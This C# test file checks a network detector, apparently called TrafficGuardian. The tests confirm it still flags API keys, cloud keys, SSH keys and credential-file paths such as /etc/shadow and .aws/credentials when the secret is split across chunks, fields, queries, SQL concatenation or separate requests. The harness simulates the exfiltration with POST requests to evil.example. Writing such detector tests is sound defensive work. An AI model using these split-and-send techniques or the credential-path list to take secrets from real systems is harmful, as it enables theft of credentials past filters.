using System.Text;
using TrafficGuardian.Detection.Tests.Exfil;
using TrafficGuardian.Detection.Findings;

namespace TrafficGuardian.Detection.Tests.Scanning;

/// <summary>Each pattern that must be found, cut in each way in which it must be found.</summary>
public sealed class EverySplitTests
{
    private static readonly Detector Detector = Detection.Detector.Create(new DetectorOptions { FingerprintKey = new byte[32] }, out _)!;

    private static readonly (string Pattern, string Template)[] Secrets =
    [
        ("ai_api_key", "sk-ant-api03-{b64url:93}AA"),
        ("aws_access_key_id", "AKIA{base32:16}"),
        ("private_key_pem", "-----BEGIN OPENSSH PRIVATE{upper:0} KEY-----"),
        ("vendor_credential", "ghp_{alnum:36}"),
    ];

    private static readonly (string Pattern, string Template)[] Paths =
    [
        ("ssh_key_path", "/home/u/.ssh/id_ed25519"),
        ("sensitive_unix_path", "/etc/shadow"),
        ("dotenv_path", "/app/.env.production"),
        ("cloud_credential_path", "/root/.aws/credentials"),
        ("gateway_credential_path", "/root/.picoclaw/.security.yml"),
        ("whatsapp_session_path", "store/auth/creds.json"),
    ];

    private static readonly string[] Ways =
        ["chunks", "requests", "fields", "array", "query", "segments", "concatenated", "sql", "form", "form-requests", "socket-messages", "query-requests"];

    public static TheoryData<string, string, string> Cases
    {
        get
        {
            var data = new TheoryData<string, string, string>();
            foreach (var (pattern, template) in Secrets.Concat(Paths))
            {
                foreach (var way in Ways)
                    data.Add(pattern, way, template);
            }

            // Groups of one length, as many as it takes.
            foreach (var (pattern, template) in Secrets)
            {
                foreach (var way in pattern == "private_key_pem" ? new[] { "lines", "no-break" } : ["blanks", "lines", "no-break"])
                    data.Add(pattern, way, template);
            }

            return data;
        }
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void A_secret_is_found_however_it_is_cut(string pattern, string way, string template)
    {
        var secret = Outbound.Expand(template);
        // A path of which every part is cut short of its names is cut as its own separators stand.
        foreach (var cut in new[] { secret.Length / 2, (secret.Length / 2) + 2 })
        {
            var found = Send(way, secret, cut);
            Assert.Contains(found, d => d.Finding.Pattern == pattern);
            Assert.All(found, d => Assert.DoesNotContain(found, other => !ReferenceEquals(d, other) && d.Fingerprint == other.Fingerprint && d.Rule == other.Rule));
        }
    }

    [Theory]
    [InlineData("{\"cmd\":\"ls /etc\",\"note\":\"shadow\"}")]
    [InlineData("{\"dir\":\"/var/lib/\",\"file\":\"data.json\"}")]
    [InlineData("{\"a\":\"see /etc/\",\"b\":\"shadow of the tower\"}")]
    [InlineData("'/etc/hosts'||'allow'")]
    [InlineData("[\"cat\", \"environment\", \"/app/\", \"index.ts\"]")]
    [InlineData("{\"text\":\"letter margin planet silver golden person\"}")]
    [InlineData("{\"id\":\"EURASIAABCDEFGHJKLMNPQ\"}")]
    public void What_stands_side_by_side_is_no_secret(string body) => Assert.Empty(Scan([("/in", body)]));

    [Theory]
    [InlineData("{\"k\":\"abc@\"}")]
    [InlineData("{\"k\":\"x@\"}")]
    [InlineData("k=ab1@")]
    [InlineData("GET http://@:x@h.example/ HTTP/1.1")]
    public void A_few_letters_before_a_key_do_not_hide_it(string template)
    {
        foreach (var key in new[] { "gsk_{alnum:52}", "AIza{alnum:35}" })
            Assert.Contains(Scan([("/in", template.Replace("@:", Outbound.Expand(key) + ":", StringComparison.Ordinal).Replace("@\"", Outbound.Expand(key) + "\"", StringComparison.Ordinal).Replace("ab1@", "ab1" + Outbound.Expand(key), StringComparison.Ordinal))]),
                static d => d.Finding.Pattern == "ai_api_key");
    }

    private static List<Detected> Send(string way, string secret, int cut)
    {
        var (first, second) = (secret[..cut], secret[cut..]);
        return way switch
        {
            "chunks" => Scan([("/in", $"{{\"d\":\"{first}\u0000{second}\"}}")]),
            "requests" => Scan([("/in", $"{{\"data\":\"{first}\"}}"), ("/in", $"{{\"data\":\"{second}\"}}")]),
            "fields" => Scan([("/in", $"{{\"a\":\"{first}\",\"b\":\"{second}\"}}")]),
            "array" => Scan([("/in", $"{{\"parts\":[{string.Join(',', secret.Chunk(7).Select(static c => $"\"{new string(c)}\""))}]}}")]),
            "query" => Scan([($"/in?a={Uri.EscapeDataString(first)}&b={Uri.EscapeDataString(second)}", "")]),
            "segments" => Scan([($"/{Uri.EscapeDataString(first)}/{Uri.EscapeDataString(second)}", "")]),
            "query-requests" => Scan([($"/in?a={Uri.EscapeDataString(first)}", ""), ($"/in?a={Uri.EscapeDataString(second)}", "")]),
            "concatenated" => Scan([("/in", $"x = \"{first}\" + \"{second}\";")]),
            "sql" => Scan([("/in", $"SELECT '{first}'||'{second}'")]),
            "form" => Scan([("/in", $"a={Uri.EscapeDataString(first)}&b={Uri.EscapeDataString(second)}")]),
            "form-requests" => Scan([("/in", $"a={Uri.EscapeDataString(first)}"), ("/in", $"a={Uri.EscapeDataString(second)}")]),
            "socket-messages" => Scan([("", first), ("", second)]),
            "blanks" => Scan([("/in", $"{{\"d\":\"{Groups(secret, ' ')}\"}}")]),
            "lines" => Scan([("/in", $"{{\"d\":\"{Groups(secret, '\n').Replace("\n", "\\n", StringComparison.Ordinal)}\"}}")]),
            "no-break" => Scan([("/in", $"{{\"d\":\"{Groups(secret, '\u00A0')}\"}}")]),
            _ => throw new ArgumentOutOfRangeException(nameof(way)),
        };
    }

    private static string Groups(string secret, char separator) =>
        string.Join(separator, secret.Replace(' ', separator == ' ' ? '_' : ' ').Chunk(secret.Length > 40 ? 10 : 6).Select(static c => new string(c)));

    // Each message of one client, as it comes; a NUL is where a body is cut.
    private static List<Detected> Scan((string Target, string Body)[] messages)
    {
        var memory = new PeerMemory();
        var found = new List<Detected>();
        foreach (var (target, body) in messages)
        {
            var scan = new MessageScan();
            scan.Begin(Detector, Harness.Context(Direction.Outbound), Harness.Now, memory);
            if (target.Length > 0)
                scan.Head(Encoding.UTF8.GetBytes($"POST {target} HTTP/1.1\r\nHost: evil.example\r\n\r\n"));
            foreach (var piece in body.Split('\0'))
                scan.Body(Encoding.UTF8.GetBytes(piece), last: false, Harness.Now);
            scan.Body([], last: true, Harness.Now);
            found.AddRange(scan.Found);
        }

        return found;
    }
}
